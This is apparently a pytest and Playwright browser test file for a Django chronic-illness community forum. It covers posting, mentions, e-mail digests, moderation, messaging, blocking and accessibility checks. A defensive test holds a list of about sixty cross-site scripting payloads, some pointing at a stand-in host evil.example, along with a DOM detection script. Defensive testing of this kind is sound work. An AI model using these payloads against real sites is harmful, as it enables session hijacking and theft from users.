"""Community journeys in a real browser, the XSS barrage, and accessibility scans."""

import re

import pytest
from django.core import mail
from django.core.management import call_command
from django.urls import reverse

from fibrotrack.community.actions.messages import do_send_message
from fibrotrack.community.actions.posts import do_reply
from fibrotrack.community.actions.threads import do_follow_thread, do_start_thread
from fibrotrack.community.models import Forum, Membership, Post, Profile, Reaction, SupportGroup, Thread
from fibrotrack.lib.testing.browser import log_in, serious_accessibility_violations

from .conftest import person

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def new_page(_playwright_browser, live_server):
    """Pages for more people, each in a context of its own."""
    contexts = []

    def make(user):
        context = _playwright_browser.new_context(viewport={"width": 390, "height": 844}, locale="en-GB")
        context.set_default_timeout(10_000)
        contexts.append(context)
        log_in(context, live_server.url, user)
        return context.new_page()

    yield make
    for context in contexts:
        context.close()


def _path(url):
    return "/" + url.split("://", 1)[1].split("/", 1)[1]


def test_join_post_get_a_mention_react_and_receive_the_notification_and_the_digest(
    logged_in_page, new_page, live_server, owner, friend
):
    page = logged_in_page
    base = live_server.url
    # Owner chooses a daily digest for mentions.
    page.goto(base + reverse("community:email_settings"))
    page.get_by_role("group", name="Mentions of you").get_by_label("In a daily digest").check()
    page.get_by_role("button", name="Save e-mail choices").click()
    page.get_by_text("Your e-mail choices are saved.").wait_for()

    # Join a group and start a thread.
    page.goto(base + reverse("community:index"))
    page.get_by_role("button", name="Join Sleep").click()
    page.get_by_text("You joined Sleep. Welcome!").wait_for()
    page.get_by_role("link", name="Start a thread").click()
    page.get_by_label("Title").fill("Waking at 3 a.m. every night")
    page.get_by_label("Your post").fill("Does anyone else wake at **3 a.m.**?")
    page.get_by_role("button", name="Post thread").click()
    page.get_by_role("heading", name="Waking at 3 a.m. every night").wait_for()
    thread = Thread.objects.get()

    # A friend joins and replies with a mention.
    other = new_page(friend)
    other.goto(base + reverse("community:forum", args=["sleep"]))
    other.get_by_role("button", name="Join Sleep").click()
    other.get_by_role("link", name=re.compile("Waking at 3 a.m.")).click()
    other.get_by_label("Your reply").fill("Yes! @Owner, I keep a notebook by the bed.")
    other.get_by_role("button", name="Post reply").click()
    other.get_by_text("Posted. Thank you for sharing.").wait_for()

    # The daily digest arrives, without the post's words, and its link opens the post.
    mail.outbox.clear()
    call_command("send_digests")
    digest = next(m for m in mail.outbox if m.to == [owner.email])
    assert "Friend mentioned you in “Waking at 3 a.m. every night”" in digest.body
    assert "notebook" not in digest.body
    link = next(line.strip() for line in digest.body.splitlines() if "/community/p/" in line)
    page.goto(base + _path(link))
    page.get_by_text("I keep a notebook by the bed.").wait_for()

    # The in-app notification is there too; following it leads to the reply, which the owner hugs.
    page.goto(base + reverse("community:index"))
    page.get_by_role("link", name=re.compile(r"Notifications 1")).click()
    page.get_by_role("link", name=re.compile("Friend mentioned you")).click()
    reply = Post.objects.get(thread=thread, position=1)
    hug = page.locator(f"#post-{reply.pk}").get_by_role("button", name=re.compile("^Hug"))
    hug.click()
    page.get_by_text("You reacted “Hug”.").wait_for()
    pressed = page.locator(f"#post-{reply.pk}").get_by_role("button", name=re.compile("^Hug"))
    assert pressed.get_attribute("aria-pressed") == "true"
    assert Reaction.objects.get().user == owner
    other.goto(base + reverse("community:notifications"))
    other.get_by_text("Owner reacted “hug” to your post").wait_for()
    assert serious_accessibility_violations(page) == []


def test_report_a_post_then_a_moderator_hides_it(logged_in_page, new_page, live_server, owner, friend, moderator):
    group = SupportGroup.objects.get(slug="sleep")
    for user in (owner, friend):
        Membership.objects.create(group=group, user=user)
    thread = do_start_thread(friend, Forum.objects.get(slug="sleep"), "Cure found!", "Buy my miracle powder")
    post = thread.posts.get()
    page = logged_in_page
    page.goto(live_server.url + thread.get_absolute_url())
    page.locator(f"#post-{post.pk}").get_by_role("link", name="Report this post").click()
    page.get_by_label("Medical misinformation").check()
    page.get_by_label("Anything the moderators should know (optional)").fill("Selling a fake cure")
    page.get_by_role("button", name="Send report").click()
    page.get_by_text("Thank you. The moderators will look at it").wait_for()

    mod = new_page(moderator)
    mod.goto(live_server.url + reverse("community:index"))
    mod.get_by_role("link", name="Moderation").click()
    mod.get_by_role("link", name=re.compile("Medical misinformation")).click()
    mod.get_by_text("Selling a fake cure").wait_for()
    assert serious_accessibility_violations(mod) == []
    mod.get_by_label("Reason (the person will see it)").fill("Unproven cure for sale")
    mod.get_by_role("button", name="Hide the post").click()
    mod.get_by_text("The post is hidden and the report closed.").wait_for()

    page.reload()
    page.get_by_text("This post was hidden by a moderator.").wait_for()
    assert "miracle powder" not in page.content()
    author = new_page(friend)
    author.goto(live_server.url + reverse("community:notifications"))
    author.get_by_text(re.compile("A moderator hid your post .* Unproven cure for sale")).wait_for()


def test_private_messages_and_blocking(logged_in_page, new_page, live_server, owner, friend):
    page = logged_in_page
    page.goto(live_server.url + reverse("community:profile", args=[friend.pk]))
    page.get_by_role("link", name="Send a private message").click()
    page.get_by_label("Your message").fill("Hi Friend, how was the appointment?")
    page.get_by_role("button", name="Send").click()
    page.get_by_text("Sent to Friend.").wait_for()

    other = new_page(friend)
    other.goto(live_server.url + reverse("community:index"))
    other.get_by_role("link", name=re.compile(r"Messages 1")).click()
    other.get_by_role("link", name=re.compile("Owner")).click()
    other.get_by_text("how was the appointment?").wait_for()
    assert serious_accessibility_violations(other) == []
    other.get_by_label("Your message").fill("It went well, thanks")
    other.get_by_role("button", name="Send").click()
    other.get_by_text("It went well, thanks").wait_for()

    # Friend blocks Owner: Owner can no longer write.
    other.goto(live_server.url + reverse("community:profile", args=[owner.pk]))
    other.get_by_role("button", name="Block").click()
    other.get_by_text("You blocked Owner.").wait_for()
    page.reload()
    page.get_by_text("Friend is not accepting messages from you.").wait_for()
    assert page.get_by_label("Your message").count() == 0


XSS_PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "[click me](javascript:alert(1))",
    "[click me](JAVASCRIPT:window.__xss=1)",
    "[click](java&#x73;cript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\tjavascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '![x](https://example.org/a.png"onerror="alert(1))',
    '[x](https://example.org/" onmouseover="alert(1))',
    "[x](https://example.org/'onmouseover='alert(1)')",
    "<a href='//evil.example'>protocol relative</a>",
    "[x](//evil.example/steal)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=window.__xss=1>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "``<script>alert(1)</script>``",
    "```html\n<script>alert(1)</script>\n```",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% csrf_token %} ${alert(1)}",
    '<a href="javas\x00cript:alert(1)">null byte</a>',
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>XSS</text></a></svg>",
    "<x onclick=alert(1)>click</x>",
    "javascript:alert(1)",
    "https://example.org/<script>alert(1)</script>",
]


DANGEROUS_DOM = """() => {
  const bad = [];
  const userContent = ".post-body, .profile-fields, .results, .thread-list, .notifications, .people, h1, .post-author";
  const tags = ["script", "iframe", "object", "embed", "style", "base", "meta", "form", "input", "img", "svg",
                "video", "audio", "details", "select", "math", "marquee", "x", "textarea", "title"];
  for (const el of document.querySelectorAll("main *")) {
    const tag = el.tagName.toLowerCase();
    if (tags.includes(tag) && el.closest(userContent)) bad.push(tag);
    for (const attr of el.attributes) {
      const value = attr.value.trim().toLowerCase();
      if (attr.name.startsWith("on") || attr.name === "style" || attr.name === "srcdoc") bad.push(tag + "[" + attr.name + "]");
      if (["href", "src", "action", "xlink:href", "formaction"].includes(attr.name)
          && (value.startsWith("javascript:") || value.startsWith("data:") || value.startsWith("vbscript:") || value.startsWith("//"))) {
        bad.push(tag + "[" + attr.name + "=" + value.slice(0, 20) + "]");
      }
    }
  }
  return bad;
}"""


def test_xss_payloads_never_run(_playwright_browser, live_server, owner, settings):
    assert len(XSS_PAYLOADS) >= 50
    settings.COMMUNITY_FLOOD_POSTS = 10_000
    group = SupportGroup.objects.get(slug="sleep")
    forum = Forum.objects.get(slug="sleep")
    Membership.objects.create(group=group, user=owner)
    thread = do_start_thread(owner, forum, "Payload thread", "Replies below")
    authors = []
    for i, payload in enumerate(XSS_PAYLOADS):
        # Profile forms refuse NUL (Django's null-character validator); PostgreSQL cannot store it.
        author = person(email=f"xss{i}@example.org", display_name=payload.replace("\x00", "")[:40])
        Profile.objects.create(user=author, bio=payload.replace("\x00", ""), bio_visibility="members")
        Membership.objects.create(group=group, user=author)
        do_start_thread(author, forum, payload[:150].replace("\n", " "), payload)
        do_reply(author, thread, payload)
        authors.append(author)
    assert Post.objects.count() == 1 + 2 * len(XSS_PAYLOADS)
    do_follow_thread(owner, thread, True)

    # The Content Security Policy would stop inline script anyway; bypass it here so that
    # this test fails if the sanitising ever lets markup through.
    context = _playwright_browser.new_context(bypass_csp=True)
    context.set_default_timeout(10_000)
    log_in(context, live_server.url, owner)
    page = context.new_page()
    dialogs = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    urls = [
        reverse("community:forum", args=["sleep"]),
        reverse("community:forum", args=["sleep"]) + "?page=2",
        reverse("community:feed"),
        reverse("community:notifications"),
        reverse("community:search") + "?q=alert",
        reverse("community:search") + "?q=script&page=2",
        reverse("community:group_members", args=["sleep"]),
    ]
    pages = thread.post_count // 20 + 1
    urls += [thread.get_absolute_url() + f"?page={n}" for n in range(1, pages + 1)]
    urls += [reverse("community:profile", args=[a.pk]) for a in authors]
    urls += [t.get_absolute_url() for t in Thread.objects.exclude(pk=thread.pk)[:20]]
    for url in urls:
        page.goto(live_server.url + url)
        page.wait_for_load_state("load")
        # Hovering, focusing and clicking what could carry a handler must not run anything either.
        for link in page.locator(".post-body a").all()[:5]:
            link.hover()
        assert page.evaluate("window.__xss") is None, url
        assert page.evaluate(DANGEROUS_DOM) == [], url
    assert dialogs == []
    assert page.evaluate("typeof window.__xss") == "undefined"
    context.close()


def test_main_pages_have_no_serious_accessibility_problems(logged_in_page, live_server, owner, friend, moderator):
    group = SupportGroup.objects.get(slug="sleep")
    Membership.objects.create(group=group, user=owner)
    Membership.objects.create(group=group, user=friend)
    thread = do_start_thread(owner, Forum.objects.get(slug="sleep"), "Accessible thread", "Hello **all**")
    do_reply(friend, thread, "Hello @Owner")
    do_send_message(friend, owner, "A message")
    page = logged_in_page
    for name, args in [
        ("community:index", []),
        ("community:forum", ["sleep"]),
        ("community:thread", [thread.pk]),
        ("community:thread_new", ["sleep"]),
        ("community:notifications", []),
        ("community:inbox", []),
        ("community:profile", [friend.pk]),
        ("community:profile_edit", []),
        ("community:email_settings", []),
        ("community:search", []),
        ("community:feed", []),
        ("community:card_new", ["chart"]),
    ]:
        page.goto(live_server.url + reverse(name, args=args))
        assert serious_accessibility_violations(page) == [], name
        assert page.locator("meta[name=robots]").get_attribute("content") == "noindex, nofollow"
